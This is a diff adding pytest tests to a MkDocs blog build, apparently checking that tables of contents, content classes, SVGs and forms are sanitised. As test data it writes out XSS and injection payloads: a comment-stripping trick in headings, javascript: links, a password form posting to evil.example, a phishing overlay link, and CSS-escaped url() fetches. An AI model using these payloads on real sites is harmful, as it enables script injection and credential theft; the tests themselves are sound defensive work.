@@ -673,3 +673,135 @@ def test_heading_ids_are_refused_or_stay_inside_their_attribute(heading_ids_buil
     assert not problems, "\n".join(problems)
     tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
     assert "Second section" in text_of(tree.html), f"{post}: the article is gone"
+
+
+# --- headings whose table-of-contents entry a pattern would leave markup in -----------------
+
+# Markdown's toc extension cuts "<!--" to "-->" out of a heading's HTML before it strips tags,
+# even inside an attribute value, and its tag pattern does not see `q=1=1` as part of a tag: what
+# is left behind is markup, and the theme prints table-of-contents entries unescaped.
+_OPEN = '<abbr title="<!--">A</abbr><abbr title=\'-->" >'
+TOC_PAYLOADS = {
+    "svg-link": "<svg width=300 height=30 q=1=1><a xlink:href=javascript:alert(document.domain) q=1=1>"
+    "<text x=0 y=20 q=1=1>Continue reading",
+    "form": "<form action=https://evil.example/collect?a=b q=1=1><input name=password type=password q=1=1>"
+    "Continue reading",
+    "button": "<button formaction=javascript:alert(1) q=1=1>Continue reading",
+    "referrer": "<meta name=referrer content=unsafe-url q=1=1>Continue reading",
+    "policy": "<meta http-equiv=Content-Security-Policy content=x q=1=1>Continue reading",
+    "preconnect": "<link rel=preconnect href=https://evil.example/ q=1=1>Continue reading",
+    "style": "<style q=1=1>*{display:none}</style>Continue reading",
+    "config": '<script id=__config type=application/json q=1=1>{"base":"//evil.example"}</script>Continue reading',
+}
+
+
+@pytest.fixture(scope="module")
+def toc_site(tmp_path_factory) -> tuple[Result, Path]:
+    root = make_site(tmp_path_factory.mktemp("toc") / "repo")
+    headings = "\n\n".join(
+        f"## Part {name} {_OPEN}{payload}'>B</abbr> {{: #part-{name} }}\n\nA paragraph about part {name}."
+        for name, payload in TOC_PAYLOADS.items()
+    )
+    front = "---\ntitle: Headings that hide markup\ndate: 2024-02-02\nauthors: [ada-author]\n"
+    front += "summary: Headings written to leave markup in the contents.\nthemes: [culture]\n---\n\n"
+    (root / "blog" / "2024-02-02-toc-markup.md").write_text(front + "Opening.\n\n" + headings + "\n")
+    return mkdocs_build(root), root / "site"
+
+
+def test_table_of_contents_entries_are_text_whatever_the_heading_holds(toc_site):
+    result, site = toc_site
+    assert result.code == 0, result.text
+    page = (site / "blog" / "toc-markup" / "index.html").read_text(encoding="utf-8")
+    tree = LexborHTMLParser(page)
+    tocs = tree.css("nav.md-nav--secondary")
+    assert tocs, "the post has no table of contents"
+    for toc in tocs:
+        # The theme's own parts of a table of contents, and nothing else.
+        assert {n.tag for n in toc.traverse(include_text=False)} <= {"nav", "label", "span", "ul", "li", "a"}
+        texts = [a.text(deep=True) for a in toc.css("a.md-nav__link")]
+        for name in TOC_PAYLOADS:
+            entry = next(t for t in texts if f"Part {name}" in t)
+            assert "Continue reading" in entry, entry
+    # Nothing of the payloads is anywhere on the page: its forms, buttons, inputs, styles and
+    # links are the theme's own, as on any other post.
+    watched = "form, button, input, style, body meta, body link, svg a"
+    plain = LexborHTMLParser((site / "blog" / "first-post" / "index.html").read_text(encoding="utf-8"))
+    assert [(n.tag, n.attributes) for n in tree.css(watched)] == [
+        (n.tag, n.attributes) for n in plain.css(watched)
+    ]
+    assert len(tree.css("script#__config")) == 1
+    for node in tree.root.traverse(include_text=False):
+        for name, value in node.attributes.items():
+            assert scheme_of(value or "") not in ("javascript", "vbscript"), (node.tag, name, value)
+
+
+def test_theme_classes_are_refused_in_content(tmp_path):
+    root = make_site(tmp_path / "repo")
+    post = root / "blog" / "2024-02-03-overlay.md"
+    front = "---\ntitle: Overlay\ndate: 2024-02-03\nauthors: [ada-author]\nsummary: A link as a page.\n"
+    front += "themes: [culture]\n---\n\nOpening.\n\n"
+    post.write_text(
+        front + "[Sign in again](https://evil.example/login){: .md-consent__overlay }\n", encoding="utf-8"
+    )
+    result = mkdocs_build(root)
+    assert result.code != 0
+    assert "blog/2024-02-03-overlay.md:11" in result.err, result.err
+    assert "the class 'md-consent__overlay' is not one the site styles for content" in result.err
+    # What content may use still builds: an admonition, a button link, highlighted code.
+    post.write_text(
+        front
+        + '!!! warning "Check first"\n\n    Ask the data protection officer.\n\n'
+        + "[Subscribe](../subscribe.md){: .md-button }\n\n"
+        + "```python\nprint('shared')\n```\n",
+        encoding="utf-8",
+    )
+    result = mkdocs_build(root)
+    assert result.code == 0, result.text
+    page = (root / "site" / "blog" / "overlay" / "index.html").read_text(encoding="utf-8")
+    assert 'class="admonition warning"' in page and 'class="md-button"' in page
+
+
+@pytest.mark.parametrize(
+    ("inside", "reason"),
+    [
+        ("<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "links to a javascript: address"),
+        ("<svg><a href='jav&#x61;script:alert(1)'>x</a></svg>", "links to a javascript: address"),
+        ("<svg><use href='https://evil.example/i.svg#a'></use></svg>", "loads <use> from another site"),
+        ("<svg><image xlink:href='//evil.example/p.png'></image></svg>", "loads <image> from another site"),
+        ("<form action='https://evil.example/collect'><input name=p></form>", "sends a form to another site"),
+        ("<button formaction='javascript:alert(1)'>Go</button>", "sends a form to a javascript: address"),
+        ("<form><input type=submit formaction='data:text/html,x'></form>", "sends a form to a data: address"),
+    ],
+)
+def test_the_page_check_reads_svg_links_and_where_forms_send(inside, reason):
+    from ishub.security import page_problems as problems_of_page
+
+    found = problems_of_page(f"<html><head></head><body><p>{inside}</p></body></html>")
+    assert any(reason in problem for problem in found), found
+    # The theme's own kinds pass: an icon, a form that stays on the page, a local link in an SVG.
+    theme = "<svg><path d='M0 0'></path><a href='#top'>t</a></svg><form role=search><button>b</button></form>"
+    assert problems_of_page(f"<html><head></head><body>{theme}</body></html>") == []
+
+
+@pytest.mark.parametrize(
+    "attribute",
+    [
+        "cursor='\\75 rl(http://evil.example/c.png), auto'",
+        "mask='\\75 rl(http://evil.example/m.svg#m)'",
+        "filter='\\000075rl(http://evil.example/f.svg#f)'",
+        "fill='u\\72l(http://evil.example/p.svg#p)'",
+        "stroke='expression(alert(1))'",
+    ],
+)
+def test_a_drawing_may_not_hide_a_fetch_in_a_presentation_attribute(attribute):
+    """SVG reads fill, mask, filter, cursor and the other presentation attributes as CSS, where
+    an escape spells url( without the letters: opened on its own, the drawing would fetch it."""
+    from ishub.assets import svg_problems
+
+    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'><rect {attribute}/></svg>"
+    found = svg_problems("blog/images/x.svg", drawing)
+    assert [p.message for p in found] == [
+        f"has a CSS escape, @-rule or expression in the {attribute.split('=')[0]} attribute of <rect>"
+    ]
+    label = "<svg xmlns='http://www.w3.org/2000/svg'><rect aria-label='Police &amp; health' fill='#0b0c0c'/></svg>"
+    assert svg_problems("blog/images/x.svg", label) == []
